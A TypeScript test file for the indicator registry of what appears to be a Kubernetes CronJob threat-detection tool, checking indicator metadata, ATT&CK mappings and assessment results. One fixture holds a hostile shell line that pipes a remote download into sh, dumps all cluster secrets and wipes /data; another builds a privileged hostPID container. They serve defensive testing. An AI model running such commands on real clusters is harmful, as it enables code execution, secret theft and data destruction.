import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import { ATTACK } from '../model/attack.ts';
import { SEVERITIES } from '../model/finding.ts';
import { assessAll, BASELINE_INDICATORS, INDICATORS } from './registry.ts';
import { blank, bodyUnseen, cronJob, script } from './testing.ts';

const folder = new URL('./', import.meta.url);

for (const indicator of INDICATORS) {
  test(`${indicator.id} is whole`, () => {
    assert.match(indicator.id, /^[a-z]+\.[a-z]+(?:-[a-z]+)*$/);
    assert.match(indicator.title, /^[A-Z][^.]{5,100}$/);
    assert.match(indicator.why, /^[A-Z].*\.$/s);
    assert.ok(SEVERITIES.includes(indicator.severity));
    assert.ok(indicator.falsePositives.length > 0);
    for (const one of indicator.falsePositives) assert.match(one, /^[A-Z].*[^.]$/);
    assert.ok(indicator.needs.length > 0);
  });

  test(`${indicator.id} names techniques that exist, the first one for containers`, () => {
    assert.ok(indicator.attack.length > 0);
    for (const id of indicator.attack) {
      const technique = ATTACK.techniques.get(id);
      assert.ok(technique !== undefined, `${id} is unknown to ATT&CK ${ATTACK.version}`);
      assert.equal(technique.state, 'current', `${id}, now ${technique.replacedBy}`);
      assert.ok(technique.tactics.length > 0, id);
    }
    assert.equal(new Set(indicator.attack).size, indicator.attack.length);
    const first = ATTACK.techniques.get(indicator.attack[0] ?? '');
    assert.ok(first?.platforms.includes('Containers'), `${first?.id} is not for containers`);
  });

  test(`${indicator.id} lives in the file of its name, with its table beside it`, () => {
    const file = new URL(`${indicator.id.replace('.', '/')}.ts`, folder);
    assert.ok(existsSync(file), file.pathname);
    const table = new URL(`${indicator.id.replace('.', '/')}.test.ts`, folder);
    assert.ok(existsSync(table), table.pathname);
    const exported = indicator.id.replaceAll(/[.-]([a-z])/g, (_, letter: string) => letter.toUpperCase());
    assert.match(readFileSync(file, 'utf8'), new RegExp(`export const ${exported} = defineIndicator\\(`));
    assert.match(readFileSync(table, 'utf8'), new RegExp(`indicatorTable\\(${exported}, \\{`));
  });
}

test('ids are unique', () => {
  assert.equal(new Set(INDICATORS.map(({ id }) => id)).size, INDICATORS.length);
});

test('every file that defines an indicator is in the list', () => {
  const ids = new Set(INDICATORS.map(({ id }) => id));
  for (const entry of readdirSync(folder, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile() || !entry.name.endsWith('.ts') || entry.name.endsWith('.test.ts')) continue;
    const text = readFileSync(`${entry.parentPath}/${entry.name}`, 'utf8');
    const id = /= defineIndicator\(\{\s*id: '([^']+)'/.exec(text)?.[1];
    if (id !== undefined) assert.ok(ids.has(id), `${id} is not listed`);
  }
});

test('an ordinary CronJob hits nothing, and nothing of it is unassessed but the rights and the past that no object holds', () => {
  const outcomes = assessAll(blank);
  assert.equal(outcomes.length, INDICATORS.length);
  assert.deepEqual(
    outcomes.flatMap(({ kind, indicator }) => (kind === 'miss' ? [] : [[kind, indicator.id]])),
    ['identity.strong-service-account', 'baseline.new-author', 'baseline.new-origin', 'baseline.new-content'].map(
      (id) => ['unassessed', id],
    ),
  );
});

test('without a body every indicator of the body is unassessed, and none hits but the one that says so', () => {
  const outcomes = assessAll(bodyUnseen('level-metadata'));
  assert.deepEqual(
    outcomes.filter(({ kind }) => kind === 'hit').map(({ indicator }) => indicator.id),
    ['request.body-unseen'],
  );
  assert.ok(outcomes.filter(({ kind }) => kind === 'unassessed').length > 30);
});

test('indicators of the baseline need what the baseline tells and nothing else, and no other needs that', () => {
  const ofBaseline = new Set<string>(['newAuthor', 'newOrigin', 'newContent']);
  for (const indicator of INDICATORS) {
    const facts = [...indicator.needs, ...(indicator.asks ?? [])];
    const wanted = BASELINE_INDICATORS.includes(indicator);
    assert.equal(indicator.id.startsWith('baseline.'), wanted);
    assert.ok(facts.every((name) => ofBaseline.has(name) === wanted, indicator.id));
  }
});

test('indicators that are asked together answer as each does alone', () => {
  const cases = [
    blank,
    bodyUnseen('not-kept'),
    script('curl -s http://203.0.113.7/a | sh; kubectl get secrets -A -o yaml; rm -rf /data/*'),
    cronJob({ hostPID: true, containers: [{ name: 'a', image: 'alpine', securityContext: { privileged: true } }] }),
  ];
  for (const facts of cases) {
    assert.deepEqual(
      assessAll(facts),
      INDICATORS.map((indicator) => indicator.assess(facts)),
    );
  }
});
